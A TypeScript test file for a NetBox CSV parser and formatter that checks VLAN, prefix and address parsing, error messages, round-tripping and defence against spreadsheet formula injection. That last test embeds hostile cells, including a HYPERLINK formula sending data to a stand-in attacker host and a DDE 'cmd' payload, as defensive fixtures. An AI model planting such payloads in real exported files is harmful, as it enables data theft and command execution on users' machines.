import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { formatAddressesCsv, formatPrefixesCsv, formatVlansCsv, parseAddressesCsv, parsePrefixesCsv, parseVlansCsv } from "./netbox-csv";

describe("NetBox CSV", () => {
  it("reads NetBox's own VLAN, prefix and address exports", () => {
    expect(parseVlansCsv("vid,name,status,description\n110,prod-web,reserved,web tier\n11,flat,active,\n")).toEqual([
      { vid: 110, name: "prod-web", status: "planned", description: "web tier", environment: null },
      { vid: 11, name: "flat", status: "current", description: null, environment: null },
    ]);
    expect(parsePrefixesCsv("prefix,status,vlan,description\n10.110.0.0/24,active,110,web\n")[0]).toMatchObject({ prefix: "10.110.0.0/24", vid: 110 });
    expect(parseAddressesCsv("address,status,dns_name\n10.110.0.5/24,reserved,web-1.example\n")[0]).toMatchObject({
      address: "10.110.0.5",
      status: "planned",
      hostname: "web-1.example",
    });
  });

  it("names the row and column of the first bad value", () => {
    expect(() => parseVlansCsv("vid,name\n10,ok\n5000,too-high\n")).toThrow("row 3, column vid");
    expect(() => parsePrefixesCsv("prefix\n10.0.0.1/24\n")).toThrow("row 2, column prefix: prefix 10.0.0.1/24 has host bits set");
    expect(() => parseAddressesCsv("address,cf_mac\n10.0.0.1/24,zz\n")).toThrow("row 2, column cf_mac");
    expect(() => parseAddressesCsv("ip,status\n10.0.0.1,active\n")).toThrow('needs a "address" column');
  });

  it("round-trips every field, released addresses included", () => {
    const vlans = [{ vid: 120, name: "prod-db", status: "planned" as const, description: "db, tier", environment: "prod" }];
    expect(parseVlansCsv(formatVlansCsv(vlans))).toEqual(vlans);
    const prefixes = [{ prefix: "10.120.0.0/24", vid: 120, description: null, gateway: "10.120.0.1", environment: "prod", routingNotes: "via udm" }];
    expect(parsePrefixesCsv(formatPrefixesCsv(prefixes))).toEqual(prefixes);
    const addresses = [
      {
        address: "10.120.0.5",
        status: "released" as const,
        hostname: "db-1",
        vmid: 2103,
        mac: "bc:24:11:21:03:00",
        vlanVid: 120,
        ownerTeam: "data",
        service: "postgres",
        sourceRef: "ip-addresses.conf:DB_1",
      },
    ];
    const csv = formatAddressesCsv(addresses.map((a) => ({ ...a, maskLength: 24 })));
    expect(csv.split("\n")[1]).toMatch(/^10\.120\.0\.5\/24,deprecated,db-1,/);
    expect(parseAddressesCsv(csv)).toEqual(addresses);
  });

  it("exports user-typed cells a spreadsheet would run as formulas with a leading quote", () => {
    const hostname = '=HYPERLINK("http://evil.example/?d="&A1,"open")';
    const addresses = formatAddressesCsv([
      {
        address: "10.121.0.5",
        status: "active",
        hostname,
        vmid: 2104,
        mac: null,
        vlanVid: 121,
        ownerTeam: "@ops",
        service: "+cmd|' /C calc'!A0",
        sourceRef: "-import",
        maskLength: 24,
      },
    ]);
    // Our own import reads them back as they were typed.
    expect(parseAddressesCsv(addresses)[0]).toMatchObject({ hostname, ownerTeam: "@ops", service: "+cmd|' /C calc'!A0", sourceRef: "-import" });
    const [row] = parse(addresses, { columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({
      address: "10.121.0.5/24",
      dns_name: `'${hostname}`,
      description: "'+cmd|' /C calc'!A0",
      cf_vmid: "2104",
      cf_vlan: "121",
      cf_owner_team: "'@ops",
      cf_source_ref: "'-import",
    });
    const [vlan] = parse(formatVlansCsv([{ vid: 121, name: "=1+1", status: "current", description: "\t=2", environment: "-prod" }]), { columns: true });
    expect(vlan).toEqual({ vid: "121", name: "'=1+1", status: "active", description: "'\t=2", cf_environment: "'-prod" });
    const [prefix] = parse(
      formatPrefixesCsv([{ prefix: "10.121.0.0/24", vid: 121, description: "@SUM(A1)", gateway: null, environment: null, routingNotes: "\r=3" }]),
      { columns: true },
    );
    expect(prefix).toMatchObject({ prefix: "10.121.0.0/24", vlan: "121", description: "'@SUM(A1)", cf_routing_notes: "'\r=3" });
  });
});
